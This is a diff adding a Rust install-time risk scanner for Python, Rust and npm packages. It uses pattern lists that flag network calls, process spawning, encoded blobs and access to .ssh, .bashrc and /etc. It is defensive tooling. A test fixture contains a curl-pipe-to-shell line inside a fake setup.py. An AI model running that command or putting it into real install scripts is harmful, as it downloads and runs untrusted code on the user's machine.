@@ -0,0 +1,347 @@
+// install-time risk scan: unpacks a package artifact and looks for risky patterns in the code
+// that runs while it is installed or built (setup.py, build.rs and proc-macros, npm lifecycle
+// scripts). it is a static pattern match, findings are prompts for review rather than verdicts
+
+use crate::cli::Language;
+use crate::sip::fetch::{download_artifact, unpack_artifact, Artifact};
+use serde::{Deserialize, Serialize};
+use std::collections::{BTreeMap, HashMap};
+
+// larger files are generated code or vendored data, not install logic
+const MAX_FILE_BYTES: u64 = 1024 * 1024;
+// shortest run of base64/hex characters reported as an encoded blob
+const BLOB_MIN_LEN: usize = 120;
+const EXCERPT_LEN: usize = 120;
+
+#[derive(Serialize, Deserialize, Debug, Clone, Copy, PartialEq, Eq, Hash)]
+#[serde(rename_all = "kebab-case")]
+pub enum Risk {
+    Network,
+    Process,
+    Obfuscation,
+    DynamicCode,
+    WritesOutsideBuild,
+    BuildCommand,
+    InstallHook,
+}
+
+impl std::fmt::Display for Risk {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let label = match self {
+            Risk::Network => "network access",
+            Risk::Process => "runs a process",
+            Risk::Obfuscation => "encoded or obfuscated data",
+            Risk::DynamicCode => "evaluates code at runtime",
+            Risk::WritesOutsideBuild => "touches files outside the build",
+            Risk::BuildCommand => "build script runs a command",
+            Risk::InstallHook => "install hook",
+        };
+        write!(f, "{}", label)
+    }
+}
+
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq)]
+pub struct ScanFinding {
+    // path inside the artifact, without the top-level directory
+    pub file: String,
+    pub line: usize,
+    pub risk: Risk,
+    pub excerpt: String,
+}
+
+impl std::fmt::Display for ScanFinding {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "{}:{} {}: {}", self.file, self.line, self.risk, self.excerpt)
+    }
+}
+
+// the scan saved with a review, so later installs can show what the reviewer saw
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq)]
+pub struct InstallScan {
+    pub scanned_on: String,  // ISO date
+    #[serde(default)]
+    pub findings: Vec<ScanFinding>,
+}
+
+type Patterns = &'static [(&'static str, Risk)];
+
+const PYTHON_PATTERNS: Patterns = &[
+    ("urllib.request", Risk::Network),
+    ("urlopen(", Risk::Network),
+    ("requests.get(", Risk::Network),
+    ("requests.post(", Risk::Network),
+    ("http.client", Risk::Network),
+    ("socket.socket(", Risk::Network),
+    ("subprocess.", Risk::Process),
+    ("os.system(", Risk::Process),
+    ("os.popen(", Risk::Process),
+    ("os.exec", Risk::Process),
+    ("os.spawn", Risk::Process),
+    ("pty.spawn(", Risk::Process),
+    ("base64.b64decode(", Risk::Obfuscation),
+    ("codecs.decode(", Risk::Obfuscation),
+    ("marshal.loads(", Risk::Obfuscation),
+    ("zlib.decompress(", Risk::Obfuscation),
+    ("exec(", Risk::DynamicCode),
+    ("eval(", Risk::DynamicCode),
+    ("__import__(", Risk::DynamicCode),
+    ("expanduser(", Risk::WritesOutsideBuild),
+    ("'/etc/", Risk::WritesOutsideBuild),
+    ("\"/etc/", Risk::WritesOutsideBuild),
+    (".bashrc", Risk::WritesOutsideBuild),
+    (".ssh/", Risk::WritesOutsideBuild),
+    ("APPDATA", Risk::WritesOutsideBuild),
+];
+
+const RUST_PATTERNS: Patterns = &[
+    ("Command::new(", Risk::BuildCommand),
+    ("TcpStream", Risk::Network),
+    ("UdpSocket", Risk::Network),
+    ("reqwest::", Risk::Network),
+    ("ureq::", Risk::Network),
+    ("curl::", Risk::Network),
+    ("base64::", Risk::Obfuscation),
+    ("home_dir(", Risk::WritesOutsideBuild),
+    ("\"HOME\"", Risk::WritesOutsideBuild),
+    ("\"/etc/", Risk::WritesOutsideBuild),
+    (".ssh", Risk::WritesOutsideBuild),
+    (".bashrc", Risk::WritesOutsideBuild),
+];
+
+const NODE_PATTERNS: Patterns = &[
+    ("child_process", Risk::Process),
+    ("execSync(", Risk::Process),
+    ("spawn(", Risk::Process),
+    ("http.get(", Risk::Network),
+    ("https.get(", Risk::Network),
+    ("http.request(", Risk::Network),
+    ("https.request(", Risk::Network),
+    ("fetch(", Risk::Network),
+    ("net.connect(", Risk::Network),
+    ("dns.", Risk::Network),
+    ("'base64'", Risk::Obfuscation),
+    ("\"base64\"", Risk::Obfuscation),
+    ("eval(", Risk::DynamicCode),
+    ("new Function(", Risk::DynamicCode),
+    ("os.homedir(", Risk::WritesOutsideBuild),
+    ("process.env.HOME", Risk::WritesOutsideBuild),
+    ("/etc/", Risk::WritesOutsideBuild),
+    (".npmrc", Risk::WritesOutsideBuild),
+    (".ssh", Risk::WritesOutsideBuild),
+    (".bashrc", Risk::WritesOutsideBuild),
+];
+
+// npm runs these on `npm install`; prepare only runs for git dependencies
+const NPM_INSTALL_SCRIPTS: &[&str] = &["preinstall", "install", "postinstall"];
+
+// ecosystems whose install-time code can be scanned
+pub fn supports(lang: &Language) -> bool {
+    matches!(lang, Language::Python | Language::Rust | Language::Node)
+}
+
+// the files that run at install or build time, with the patterns to look for in them
+fn install_time_files(files: &HashMap<String, String>, lang: &Language, findings: &mut Vec<ScanFinding>) -> Vec<(String, Patterns)> {
+    match lang {
+        Language::Python => files
+            .keys()
+            .filter(|path| *path == "setup.py")
+            .map(|path| (path.clone(), PYTHON_PATTERNS))
+            .collect(),
+        Language::Rust => {
+            let manifest = files.get("Cargo.toml").and_then(|m| m.parse::<toml::Table>().ok());
+            let build = manifest.as_ref().and_then(|m| m.get("package")).and_then(|p| p.get("build"));
+            let build_script = match build {
+                Some(toml::Value::String(path)) => Some(path.clone()),
+                Some(toml::Value::Boolean(false)) => None,
+                _ => Some("build.rs".to_string()),
+            };
+            let proc_macro = manifest
+                .as_ref()
+                .and_then(|m| m.get("lib"))
+                .and_then(|lib| lib.get("proc-macro").or_else(|| lib.get("proc_macro")))
+                .and_then(toml::Value::as_bool)
+                .unwrap_or(false);
+
+            // proc-macros run inside the compiler for every crate that uses them
+            let mut selected: Vec<(String, Patterns)> = files
+                .keys()
+                .filter(|path| Some(path.as_str()) == build_script.as_deref() || (proc_macro && path.starts_with("src/") && path.ends_with(".rs")))
+                .map(|path| (path.clone(), RUST_PATTERNS))
+                .collect();
+            selected.sort_by(|a, b| a.0.cmp(&b.0));
+            selected
+        }
+        Language::Node => {
+            let Some(manifest) = files.get("package.json") else {
+                return Vec::new();
+            };
+            let scripts: HashMap<String, String> = serde_json::from_str::<serde_json::Value>(manifest)
+                .ok()
+                .and_then(|json| json.get("scripts").cloned())
+                .and_then(|scripts| serde_json::from_value(scripts).ok())
+                .unwrap_or_default();
+
+            let mut selected = Vec::new();
+            for hook in NPM_INSTALL_SCRIPTS {
+                let Some(command) = scripts.get(*hook) else {
+                    continue;
+                };
+                findings.push(ScanFinding {
+                    file: "package.json".to_string(),
+                    line: line_of(manifest, &format!("\"{}\"", hook)),
+                    risk: Risk::InstallHook,
+                    excerpt: format!("{}: {}", hook, excerpt(command)),
+                });
+                // scripts the hook runs, e.g. `node scripts/install.js`
+                for word in command.split_whitespace() {
+                    let path = word.trim_start_matches("./");
+                    if [".js", ".cjs", ".mjs"].iter().any(|ext| path.ends_with(ext)) && files.contains_key(path) {
+                        selected.push((path.to_string(), NODE_PATTERNS));
+                    }
+                }
+            }
+            // without an install script npm runs node-gyp on a binding.gyp
+            if !scripts.contains_key("install") && !scripts.contains_key("preinstall") && files.contains_key("binding.gyp") {
+                findings.push(ScanFinding {
+                    file: "binding.gyp".to_string(),
+                    line: 1,
+                    risk: Risk::InstallHook,
+                    excerpt: "npm runs `node-gyp rebuild` to compile native code".to_string(),
+                });
+            }
+            selected.sort_by(|a, b| a.0.cmp(&b.0));
+            selected.dedup_by(|a, b| a.0 == b.0);
+            selected
+        }
+        _ => Vec::new(),
+    }
+}
+
+pub fn scan_files(files: &HashMap<String, String>, lang: &Language) -> Vec<ScanFinding> {
+    let mut findings = Vec::new();
+    for (path, patterns) in install_time_files(files, lang, &mut findings) {
+        let content = &files[&path];
+        let comment = if *lang == Language::Python { "#" } else { "//" };
+        for (i, line) in content.lines().enumerate() {
+            let trimmed = line.trim();
+            if trimmed.starts_with(comment) {
+                continue;
+            }
+            let mut risks: Vec<Risk> = Vec::new();
+            for (pattern, risk) in patterns.iter() {
+                if trimmed.contains(pattern) && !risks.contains(risk) {
+                    risks.push(*risk);
+                }
+            }
+            if has_encoded_blob(trimmed) && !risks.contains(&Risk::Obfuscation) {
+                risks.push(Risk::Obfuscation);
+            }
+            findings.extend(risks.into_iter().map(|risk| ScanFinding {
+                file: path.clone(),
+                line: i + 1,
+                risk,
+                excerpt: excerpt(trimmed),
+            }));
+        }
+    }
+    findings
+}
+
+// the readable text of an unpacked artifact; larger files are generated code or vendored data
+pub fn text_files(files: &BTreeMap<String, Vec<u8>>) -> HashMap<String, String> {
+    files
+        .iter()
+        .filter(|(_, content)| content.len() as u64 <= MAX_FILE_BYTES)
+        .filter_map(|(path, content)| Some((path.clone(), String::from_utf8(content.clone()).ok()?)))
+        .collect()
+}
+
+pub async fn scan_package(client: &reqwest::Client, name: &str, version: Option<&str>, lang: &Language) -> Result<(Artifact, Vec<ScanFinding>), Box<dyn std::error::Error>> {
+    if !supports(lang) {
+        return Err(format!("install-time scanning is not supported for {} yet", lang).into());
+    }
+    let artifact = download_artifact(client, name, version, lang).await?;
+    let files = text_files(&unpack_artifact(&artifact.bytes)?);
+    let findings = scan_files(&files, lang);
+    Ok((artifact, findings))
+}
+
+// long runs of base64 or hex are how payloads hide in plain sight
+fn has_encoded_blob(line: &str) -> bool {
+    let mut run = 0;
+    for c in line.chars() {
+        if c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=') {
+            run += 1;
+            if run >= BLOB_MIN_LEN {
+                return true;
+            }
+        } else {
+            run = 0;
+        }
+    }
+    false
+}
+
+fn line_of(content: &str, needle: &str) -> usize {
+    content.lines().position(|line| line.contains(needle)).map_or(1, |i| i + 1)
+}
+
+fn excerpt(line: &str) -> String {
+    if line.chars().count() > EXCERPT_LEN {
+        format!("{}...", line.chars().take(EXCERPT_LEN).collect::<String>())
+    } else {
+        line.to_string()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn files(entries: &[(&str, &str)]) -> HashMap<String, String> {
+        entries.iter().map(|(path, content)| (path.to_string(), content.to_string())).collect()
+    }
+
+    #[test]
+    fn test_scan_setup_py() {
+        let blob = "A".repeat(200);
+        let setup = format!(
+            "import os, subprocess\n# os.system('comment')\nfrom setuptools import setup\nos.system('curl http://x | sh')\npayload = '{}'\nsetup(name='x')\n",
+            blob
+        );
+        let findings = scan_files(&files(&[("setup.py", &setup), ("x/__init__.py", "import subprocess\nsubprocess.run(['ls'])")]), &Language::Python);
+        let risks: Vec<(usize, Risk)> = findings.iter().map(|f| (f.line, f.risk)).collect();
+        assert_eq!(risks, vec![(4, Risk::Process), (5, Risk::Obfuscation)]);
+    }
+
+    #[test]
+    fn test_scan_build_script_and_proc_macro() {
+        let manifest = "[package]\nname = \"x\"\nbuild = \"tools/build.rs\"\n\n[lib]\nproc-macro = true\n";
+        let scanned = files(&[
+            ("Cargo.toml", manifest),
+            ("tools/build.rs", "fn main() {\n    std::process::Command::new(\"sh\").status().unwrap();\n}\n"),
+            ("src/lib.rs", "use std::net::TcpStream;\n"),
+            ("build.rs", "Command::new(\"ignored\")"),
+        ]);
+        let findings = scan_files(&scanned, &Language::Rust);
+        let risks: Vec<(&str, Risk)> = findings.iter().map(|f| (f.file.as_str(), f.risk)).collect();
+        assert_eq!(risks, vec![("src/lib.rs", Risk::Network), ("tools/build.rs", Risk::BuildCommand)]);
+    }
+
+    #[test]
+    fn test_scan_npm_install_hooks() {
+        let manifest = "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"postinstall\": \"node scripts/setup.js\",\n    \"test\": \"node test.js\"\n  }\n}";
+        let scanned = files(&[
+            ("package.json", manifest),
+            ("scripts/setup.js", "const { exec } = require('child_process');\nhttps.get('https://example.com/x');\n"),
+            ("test.js", "require('child_process')"),
+        ]);
+        let findings = scan_files(&scanned, &Language::Node);
+        let risks: Vec<(&str, usize, Risk)> = findings.iter().map(|f| (f.file.as_str(), f.line, f.risk)).collect();
+        assert_eq!(risks, vec![
+            ("package.json", 4, Risk::InstallHook),
+            ("scripts/setup.js", 1, Risk::Process),
+            ("scripts/setup.js", 2, Risk::Network),
+        ]);
+    }
+}